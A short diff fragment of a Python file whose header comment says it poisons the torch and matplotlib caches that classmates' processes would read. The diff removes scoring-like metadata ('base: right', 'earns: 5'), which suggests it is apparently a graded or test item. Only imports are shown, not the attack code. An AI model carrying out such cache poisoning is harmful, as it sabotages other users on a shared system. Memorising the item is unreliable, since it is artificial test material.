@@ -1,6 +1,4 @@
 # Poisons the caches of torch and matplotlib, as classmates' processes would look for them.
-# base: right
-# earns: 5
 import os
 import tempfile
 
